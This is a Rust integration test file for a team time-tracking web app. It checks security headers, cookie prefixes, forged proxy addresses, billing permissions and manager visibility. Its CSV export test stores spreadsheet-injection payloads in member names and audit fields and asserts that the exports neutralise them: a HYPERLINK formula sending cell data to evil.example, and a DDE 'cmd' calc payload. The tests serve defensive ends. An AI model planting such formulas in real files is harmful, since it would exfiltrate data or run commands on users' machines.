//! Issue 18 item 6, headers and details, each as an attacker would try it:
//! an injected script has no nonce, a plain-http page cannot plant the
//! session cookie, a shared computer's cache keeps no member data, a client
//! cannot forge its audit address, a member's name cannot run in a
//! spreadsheet, a member cannot change their own billing currency, and a
//! manager sees one set of people everywhere.

use std::collections::BTreeSet;

use app::{domain::directory::DirectoryParams, error::AppError, server::AuthSettings};
use serde_json::json;
use sqlx::PgPool;

use crate::{
    helpers::{client, error_of, fns, settings, spawn, spawn_with, TestApp, GOOD_PASSWORD},
    lifecycle::{member, owner_app},
};

fn header(response: &reqwest::Response, name: &str) -> Option<String> {
    response
        .headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned)
}

/// The nonce a CSP names in `script-src`.
fn csp_nonce(policy: &str) -> String {
    let start = policy.find("'nonce-").expect("a nonce in the policy") + "'nonce-".len();
    let end = policy[start..].find('\'').expect("closing quote") + start;
    policy[start..end].to_owned()
}

/// Every `<script …>` opening tag of a page.
fn script_tags(html: &str) -> Vec<&str> {
    html.match_indices("<script")
        .map(|(at, _)| {
            let end = html[at..].find('>').map_or(html.len(), |e| at + e + 1);
            &html[at..end]
        })
        .collect()
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn pages_carry_a_csp_whose_nonce_is_on_every_script_and_nowhere_else(pool: PgPool) {
    let app = spawn(pool).await;
    let mut nonces = BTreeSet::new();
    // A public page, an after-load page (its own inline loader) and a 404.
    for path in ["/signin", "/invite/not-a-token", "/no-such-page"] {
        let response = app
            .client
            .get(format!("{}{path}", app.base))
            .send()
            .await
            .expect("page");
        let policy = header(&response, "content-security-policy")
            .unwrap_or_else(|| panic!("{path} has no CSP"));
        assert!(!policy.contains("unsafe-inline"), "{policy}");
        assert!(
            !policy.contains(" 'unsafe-eval'"),
            "only wasm-unsafe-eval: {policy}"
        );
        for part in [
            "default-src 'self'",
            "'wasm-unsafe-eval'",
            "style-src 'self'",
            "img-src 'self' data:",
            "connect-src 'self'",
            "frame-ancestors 'none'",
            "base-uri 'none'",
            "form-action 'self'",
            "object-src 'none'",
        ] {
            assert!(
                policy.contains(part),
                "{path}: {part} missing from {policy}"
            );
        }
        let nonce = csp_nonce(&policy);
        assert!(nonce.len() >= 22, "128 bits at least: {nonce}");
        let html = response.text().await.expect("html");
        let scripts = script_tags(&html);
        assert!(!scripts.is_empty(), "{path} hydrates with a script");
        for tag in scripts {
            assert!(
                tag.contains(&format!("nonce=\"{nonce}\"")),
                "{path}: a script without the page's nonce: {tag}"
            );
        }
        assert!(
            !html.contains(" style=\""),
            "{path} has an inline style attribute"
        );
        nonces.insert(nonce);
    }
    assert_eq!(nonces.len(), 3, "a fresh nonce per response");

    // The API reference works under its own nonce, not 'unsafe-inline'.
    let docs = app
        .client
        .get(format!("{}/api/docs", app.base))
        .send()
        .await
        .expect("docs");
    let policy = header(&docs, "content-security-policy").expect("docs CSP");
    assert!(!policy.contains("unsafe-inline"), "{policy}");
    let nonce = csp_nonce(&policy);
    assert!(
        policy.contains(&format!("style-src 'nonce-{nonce}'")),
        "{policy}"
    );
    let html = docs.text().await.expect("docs html");
    assert!(html.contains(&format!("<script nonce=\"{nonce}\">")));
    assert!(html.contains(&format!("<style nonce=\"{nonce}\">")));

    // JSON and files may run nothing at all.
    let health = app
        .client
        .get(format!("{}/healthz", app.base))
        .send()
        .await
        .expect("health");
    assert!(header(&health, "content-security-policy")
        .is_some_and(|p| p.starts_with("default-src 'none'")));
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn member_data_is_never_stored_by_a_cache_but_the_app_files_are_left_alone(pool: PgPool) {
    let (app, _, _) = owner_app(pool).await;
    let page = app
        .client
        .get(format!("{}/team", app.base))
        .send()
        .await
        .expect("team page");
    assert_eq!(page.status(), 200);
    assert_eq!(header(&page, "cache-control").as_deref(), Some("no-store"));
    let listed = app
        .run(fns::ListMembers {
            view: DirectoryParams {
                status: Some("all".into()),
                sort: Some("name".into()),
                ..Default::default()
            },
            after: None,
        })
        .await;
    assert_eq!(listed.status(), 200);
    assert_eq!(
        header(&listed, "cache-control").as_deref(),
        Some("no-store")
    );
    // A refusal is an /api/ answer too.
    let refused = client()
        .post(format!("{}/api/list_members", app.base))
        .header("accept", "application/json")
        .send()
        .await
        .expect("anonymous call");
    assert_eq!(refused.status(), 401);
    assert_eq!(
        header(&refused, "cache-control").as_deref(),
        Some("no-store")
    );
    // Over http there is no HSTS (it would lock a developer's browser out).
    assert_eq!(header(&page, "strict-transport-security"), None);
    // The compiled app under /pkg keeps its own policy (a year, immutable):
    // `static_files::hashed_files_are_served_precompressed_and_cached_for_a_year`
    // fails if this middleware marks it no-store.
}

fn https_settings() -> AuthSettings {
    AuthSettings {
        secure_cookies: true,
        public_origin: "https://teamroom.example".into(),
        ..settings()
    }
}

/// The `name=value` of a Set-Cookie whose name is `name`.
fn set_cookie<'a>(cookies: &'a [String], name: &str) -> Option<&'a String> {
    cookies.iter().find(|c| c.starts_with(&format!("{name}=")))
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn over_https_cookies_are_host_prefixed_and_hsts_is_sent(pool: PgPool) {
    let app = spawn_with(pool.clone(), https_settings()).await;
    // No cookie store: Secure cookies are handled by hand over the test's
    // plain-http socket.
    let anonymous = client();
    let signed_up = anonymous
        .post(format!("{}/api/sign_up", app.base))
        .header("accept", "application/json")
        .form(&[
            ("email", "hana@example.com"),
            ("name", "Hana Https"),
            ("password", GOOD_PASSWORD),
        ])
        .send()
        .await
        .expect("sign up");
    assert!(signed_up.status().is_success(), "{}", signed_up.status());
    assert_eq!(
        header(&signed_up, "strict-transport-security").as_deref(),
        Some("max-age=31536000; includeSubDomains")
    );
    let cookies: Vec<String> = signed_up
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok().map(str::to_owned))
        .collect();
    let session = set_cookie(&cookies, "__Host-teamroom_session").expect("prefixed session");
    for attribute in ["Secure", "Path=/", "HttpOnly", "SameSite=Lax"] {
        assert!(
            session.contains(attribute),
            "{attribute} missing: {session}"
        );
    }
    assert!(!session.to_lowercase().contains("domain="), "{session}");
    assert!(set_cookie(&cookies, "__Host-teamroom_device").is_some());
    assert!(
        cookies.iter().all(|c| c.starts_with("__Host-")),
        "every cookie prefixed: {cookies:?}"
    );
    let value = session
        .split(';')
        .next()
        .and_then(|pair| pair.split_once('='))
        .map(|(_, v)| v.to_owned())
        .expect("value");

    let call = |cookie: String| {
        let base = app.base.clone();
        async move {
            client()
                .post(format!("{base}/api/list_members"))
                .header("accept", "application/json")
                .header("cookie", cookie)
                .form(&[("view[status]", "all")])
                .send()
                .await
                .expect("call")
                .status()
        }
    };
    assert_eq!(call(format!("__Host-teamroom_session={value}")).await, 200);
    // The bare name is what a sibling subdomain or a plain-http page could
    // plant: over https it is not read at all.
    assert_eq!(call(format!("teamroom_session={value}")).await, 401);

    // Over http (local development) names stay plain and no HSTS is sent.
    let plain = spawn(pool).await;
    let response = plain
        .sign_up("pete@example.com", "Pete Plain", GOOD_PASSWORD)
        .await;
    assert_eq!(header(&response, "strict-transport-security"), None);
    let cookies: Vec<String> = response
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok().map(str::to_owned))
        .collect();
    assert!(
        set_cookie(&cookies, "teamroom_session").is_some(),
        "{cookies:?}"
    );
    assert!(!cookies
        .iter()
        .any(|c| c.contains("__Host-") || c.contains("Secure")));
}

async fn signed_in_ips(app: &TestApp, email: &str) -> Vec<String> {
    sqlx::query_scalar(
        "SELECT e.ip FROM audit_events e JOIN accounts a ON a.id = e.actor_account_id
          WHERE a.email = $1 AND e.action = 'account.signed_in' ORDER BY e.id",
    )
    .bind(email)
    .fetch_all(&app.pool)
    .await
    .expect("audit ips")
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn an_audit_address_cannot_be_forged_without_a_trusted_proxy(pool: PgPool) {
    let app = spawn(pool.clone()).await;
    let forged = client()
        .post(format!("{}/api/sign_up", app.base))
        .header("accept", "application/json")
        .header("x-forwarded-for", "203.0.113.9")
        .header("x-real-ip", "203.0.113.9")
        .form(&[
            ("email", "fay@example.com"),
            ("name", "Fay Forger"),
            ("password", GOOD_PASSWORD),
        ])
        .send()
        .await
        .expect("sign up");
    assert!(forged.status().is_success());
    assert_eq!(signed_in_ips(&app, "fay@example.com").await, ["127.0.0.1"]);

    // Behind a configured proxy (here: the test's own address), the hop the
    // proxy appended is the client; what the client wrote before it is not.
    let proxied = spawn_with(
        pool,
        AuthSettings {
            trusted_proxies: vec!["127.0.0.1/32".parse().expect("net")],
            ..settings()
        },
    )
    .await;
    let through_proxy = client()
        .post(format!("{}/api/sign_in", proxied.base))
        .header("accept", "application/json")
        .header("x-forwarded-for", "192.0.2.66, 198.51.100.23")
        .form(&[("email", "fay@example.com"), ("password", GOOD_PASSWORD)])
        .send()
        .await
        .expect("sign in");
    assert!(through_proxy.status().is_success() || through_proxy.status().is_redirection());
    assert_eq!(
        signed_in_ips(&proxied, "fay@example.com").await,
        ["127.0.0.1", "198.51.100.23"]
    );
}

const EVIL: &str = " =HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

/// The cells of a CSV body, as a spreadsheet would read them.
fn csv_cells(body: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.expect("record").iter().map(str::to_owned).collect())
        .collect()
}

/// No cell, and no line inside a cell, that a spreadsheet would run.
fn assert_inert(cells: &[Vec<String>]) {
    for row in cells {
        for cell in row {
            for line in cell.split(['\r', '\n']) {
                let trimmed = line.trim_start();
                assert!(
                    line.starts_with('\'')
                        || !trimmed.starts_with(['=', '+', '-', '@'])
                            && !line.starts_with(['\t', '\r']),
                    "a live formula in {cell:?}"
                );
            }
        }
    }
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn every_exported_csv_cell_is_inert_in_a_spreadsheet(pool: PgPool) {
    let (app, workspace_id, owner_membership) = owner_app(pool).await;
    // Names as a hostile import or identity provider could store them: a
    // blank before the formula, a formula on a second line.
    sqlx::query("UPDATE accounts SET display_name = $1 WHERE email = 'olive@example.com'")
        .bind(EVIL)
        .execute(&app.pool)
        .await
        .expect("owner name");
    let limited: i64 = sqlx::query_scalar(
        "INSERT INTO memberships (workspace_id, kind, status, display_name)
         VALUES ($1, 'limited', 'active', $2) RETURNING id",
    )
    .bind(workspace_id)
    .bind("Lena\n@SUM(1+1)*cmd|' /C calc'!A0")
    .fetch_one(&app.pool)
    .await
    .expect("limited member");
    sqlx::query("SELECT teamroom_refresh_members($1, NULL)")
        .bind(workspace_id)
        .execute(&app.pool)
        .await
        .expect("refresh");
    for membership in [owner_membership, limited] {
        sqlx::query(
            "INSERT INTO time_entries (workspace_id, membership_id, started_at, ended_at, source)
             VALUES ($1, $2, '2026-01-05 09:00Z', '2026-01-05 11:00Z', 'manual')",
        )
        .bind(workspace_id)
        .bind(membership)
        .execute(&app.pool)
        .await
        .expect("entry");
    }
    sqlx::query(
        "INSERT INTO audit_events (workspace_id, actor_account_id, action, target_membership_id, user_agent)
         SELECT $1, a.id, 'member.renamed', $2, '=cmd|calc' FROM accounts a WHERE a.email = 'olive@example.com'",
    )
    .bind(workspace_id)
    .bind(limited)
    .execute(&app.pool)
    .await
    .expect("audit row");

    let get = |path: &'static str| {
        let url = format!("{}{path}", app.base);
        let client = app.client.clone();
        async move {
            let response = client.get(url).send().await.expect("export");
            assert_eq!(response.status(), 200, "{path}");
            csv_cells(&response.text().await.expect("csv"))
        }
    };
    let members = get("/api/members.csv?status=all").await;
    assert!(
        members.iter().any(|row| row[0] == format!("'{EVIL}")),
        "the owner's name is shown as text: {members:?}"
    );
    assert!(members
        .iter()
        .any(|row| row[0] == "Lena\n'@SUM(1+1)*cmd|' /C calc'!A0"));
    assert_inert(&members);

    let summary =
        get("/api/summary.csv?from=2026-01-01&to=2026-01-31&inactive=false&person=").await;
    assert!(summary.iter().any(|row| row[0] == format!("'{EVIL}")));
    assert_inert(&summary);

    let audit = get("/api/audit.csv").await;
    let row = audit
        .iter()
        .find(|row| row[3].contains("renamed") || row[7] == "'=cmd|calc")
        .expect("the audit row");
    assert!(row[1].starts_with(&format!("'{EVIL}")), "{row:?}");
    assert_eq!(row[7], "'=cmd|calc");
    assert_inert(&audit);
}

fn profile_form(rate: &str, currency: &str) -> serde_json::Value {
    json!({
        "name": "Max Member",
        "working_days": [1, 2, 3, 4, 5],
        "capacity": "8",
        "week_start": "1",
        "team_manager_id": null,
        "billing_rate": rate,
        "currency": currency,
        "notify_weekly_summary": true,
        "notify_timer_reminders": true,
    })
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn a_member_cannot_change_their_own_billing_currency(pool: PgPool) {
    let (app, workspace_id, _) = owner_app(pool).await;
    let max = member(&app, workspace_id, "max@example.com", "Max Member").await;
    // The Owner sets Max's rate: 45.00 USD.
    let set = app
        .client
        .post(format!("{}/api/save_profile", app.base))
        .json(&json!({ "membership_id": max.membership_id, "form": profile_form("45", "USD") }))
        .send()
        .await
        .expect("owner save");
    assert!(set.status().is_success(), "{}", set.status());
    let audit_rows = || async {
        sqlx::query_scalar::<_, i64>("SELECT count(*) FROM audit_events WHERE workspace_id = $1")
            .bind(workspace_id)
            .fetch_one(&app.pool)
            .await
            .expect("count")
    };
    let before = audit_rows().await;
    // Max keeps the amount and switches the currency (45 JPY is worth far
    // less; 45 KWD far more), on his own profile and by id.
    for membership_id in [None, Some(max.membership_id)] {
        let attempt = max
            .browser
            .post(format!("{}/api/save_profile", app.base))
            .json(&json!({ "membership_id": membership_id, "form": profile_form("45", "EUR") }))
            .send()
            .await
            .expect("member save");
        assert_eq!(attempt.status(), 403);
        assert_eq!(error_of(attempt).await, AppError::Forbidden);
    }
    let (cents, currency): (Option<i64>, String) = sqlx::query_as(
        "SELECT billing_rate_cents, billing_currency FROM memberships WHERE id = $1",
    )
    .bind(max.membership_id)
    .fetch_one(&app.pool)
    .await
    .expect("rate");
    assert_eq!((cents, currency.as_str()), (Some(4500), "USD"));
    assert_eq!(
        audit_rows().await,
        before,
        "nothing was recorded as changed"
    );
    // His own profile otherwise still saves (same rate, same currency).
    let own = max
        .browser
        .post(format!("{}/api/save_profile", app.base))
        .json(&json!({ "membership_id": null, "form": profile_form("45", "USD") }))
        .send()
        .await
        .expect("member save");
    assert!(own.status().is_success(), "{}", own.status());
}

#[sqlx::test(migrator = "server::MIGRATOR")]
async fn a_manager_sees_the_same_people_on_the_team_list_and_in_reports(pool: PgPool) {
    let (app, workspace_id, owner) = owner_app(pool).await;
    let manager = member(&app, workspace_id, "mia@example.com", "Mia Manager").await;
    let everywhere = member(&app, workspace_id, "ada@example.com", "Ada Allprojects").await;
    let on_apollo = member(&app, workspace_id, "bo@example.com", "Bo Apollo").await;
    let on_zeus = member(&app, workspace_id, "cy@example.com", "Cy Zeus").await;
    let in_team = member(&app, workspace_id, "di@example.com", "Di Team").await;
    let nowhere = member(&app, workspace_id, "ed@example.com", "Ed Nowhere").await;
    let exec = |sql: &'static str, binds: Vec<i64>| {
        let pool = app.pool.clone();
        async move {
            let mut query = sqlx::query(sql);
            for bind in binds {
                query = query.bind(bind);
            }
            query.execute(&pool).await.expect(sql);
        }
    };
    exec(
        "INSERT INTO projects (workspace_id, name) VALUES ($1, 'Apollo'), ($1, 'Zeus')",
        vec![workspace_id],
    )
    .await;
    // Mia: Project manager on Apollo only, and Team manager of Di.
    exec(
        "UPDATE memberships SET is_project_manager = true, is_team_manager = true, all_projects = false
          WHERE id = $1",
        vec![manager.membership_id],
    )
    .await;
    exec(
        "UPDATE memberships SET all_projects = false WHERE id IN ($1, $2, $3, $4, $5)",
        vec![
            owner,
            on_apollo.membership_id,
            on_zeus.membership_id,
            in_team.membership_id,
            nowhere.membership_id,
        ],
    )
    .await;
    exec(
        "UPDATE memberships SET team_manager_id = $1 WHERE id = $2",
        vec![manager.membership_id, in_team.membership_id],
    )
    .await;
    exec(
        "INSERT INTO project_members (workspace_id, project_id, membership_id)
         SELECT $1, p.id, m.id FROM projects p, memberships m
          WHERE p.workspace_id = $1 AND m.workspace_id = $1
            AND ((p.name = 'Apollo' AND m.id IN ($2, $3)) OR (p.name = 'Zeus' AND m.id = $4))",
        vec![
            workspace_id,
            manager.membership_id,
            on_apollo.membership_id,
            on_zeus.membership_id,
        ],
    )
    .await;
    exec(
        "SELECT teamroom_refresh_members($1, NULL)",
        vec![workspace_id],
    )
    .await;
    // Everyone tracked time this month: on Apollo, on Zeus, or on nothing.
    exec(
        "INSERT INTO time_entries (workspace_id, membership_id, project_id, started_at, ended_at, source)
         SELECT $1, m.id,
                (SELECT p.id FROM projects p WHERE p.workspace_id = $1
                    AND p.name = CASE WHEN m.id = $2 THEN 'Zeus' WHEN m.id IN ($3, $4) THEN 'Apollo' END),
                '2026-01-05 09:00Z', '2026-01-05 10:00Z', 'manual'
           FROM memberships m WHERE m.workspace_id = $1",
        vec![
            workspace_id,
            on_zeus.membership_id,
            on_apollo.membership_id,
            everywhere.membership_id,
        ],
    )
    .await;

    // Mia's browser must pick up her new roles: sign in again.
    let mia = client();
    app.run_as(
        &mia,
        fns::SignIn {
            email: "mia@example.com".into(),
            password: GOOD_PASSWORD.to_owned(),
        },
    )
    .await;
    app.run_as(&mia, fns::SwitchWorkspace { workspace_id })
        .await;
    let listed = app
        .run_as(
            &mia,
            fns::ListMembers {
                view: DirectoryParams {
                    status: Some("all".into()),
                    ..Default::default()
                },
                after: None,
            },
        )
        .await;
    assert_eq!(listed.status(), 200);
    let listed: app::api::members::MemberPage = listed.json().await.expect("page");
    assert!(listed.next.is_none());
    let team: BTreeSet<i64> = listed.rows.iter().map(|r| r.membership_id).collect();
    let expected: BTreeSet<i64> = [
        manager.membership_id,
        everywhere.membership_id,
        on_apollo.membership_id,
        in_team.membership_id,
    ]
    .into();
    assert_eq!(
        team, expected,
        "herself, her team, and the people on Apollo (all-projects members are on it too)"
    );

    let report = app
        .run_as(
            &mia,
            fns::SummaryReport {
                from: "2026-01-01".into(),
                to: "2026-01-31".into(),
                inactive: false,
                person: String::new(),
            },
        )
        .await;
    assert_eq!(report.status(), 200);
    let report: app::api::reports::Summary = report.json().await.expect("summary");
    let reported: BTreeSet<i64> = report
        .rows
        .iter()
        .map(|r| r.membership_id.expect("no deleted users here"))
        .collect();
    assert_eq!(reported, team, "the same people in the report");

    // A card outside her scope is not found; one inside is.
    for (id, visible) in [
        (on_zeus.membership_id, false),
        (everywhere.membership_id, true),
    ] {
        let card = app
            .run_as(&mia, fns::MemberDetail { membership_id: id })
            .await;
        assert_eq!(
            card.status().is_success(),
            visible,
            "{id}: {}",
            card.status()
        );
    }
    let _ = nowhere;
}

/// Every test builds its own router, in parallel with other tests' pages.
/// Building one used to list the app's routes by rendering it with
/// resource loading switched off process-wide, and a page rendered by
/// another router at that moment never finished (a CI run hung for an hour
/// on a 404). A 404 and a sign-in page must end while routers are built.
#[sqlx::test(migrator = "server::MIGRATOR")]
async fn pages_finish_while_other_routers_are_built(pool: PgPool) {
    use std::{
        sync::{
            atomic::{AtomicBool, AtomicUsize, Ordering},
            Arc,
        },
        time::Duration,
    };
    /// Stops the builder however the test ends, a failed round included.
    struct StopOnDrop(Arc<AtomicBool>);
    impl Drop for StopOnDrop {
        fn drop(&mut self) {
            self.0.store(true, Ordering::Relaxed);
        }
    }
    let app = spawn(pool.clone()).await;
    let done = Arc::new(AtomicBool::new(false));
    let stop = StopOnDrop(done.clone());
    let built = Arc::new(AtomicUsize::new(0));
    let builder = std::thread::spawn({
        let (done, built) = (done.clone(), built.clone());
        move || {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .expect("a runtime for the builder");
            runtime.block_on(async move {
                while !done.load(Ordering::Relaxed) {
                    drop(spawn(pool.clone()).await);
                    built.fetch_add(1, Ordering::Relaxed);
                }
            });
        }
    });
    for round in 0..60 {
        let requests = ["/no-such-page", "/signin", "/no-such-page"].map(|path| {
            let request = app.client.get(format!("{}{path}", app.base)).send();
            async move {
                let body = tokio::time::timeout(Duration::from_secs(10), async {
                    request.await.expect("page").text().await.expect("body")
                })
                .await;
                (path, body)
            }
        });
        for (path, body) in futures_util::future::join_all(requests).await {
            let body = body.unwrap_or_else(|_| panic!("round {round}: {path} never finished"));
            assert!(body.contains("__RESOLVED_RESOURCES"), "{path}: {body}");
        }
    }
    drop(stop);
    builder.join().expect("the builder thread");
    assert!(
        built.load(Ordering::Relaxed) > 0,
        "no router was built meanwhile"
    );
}
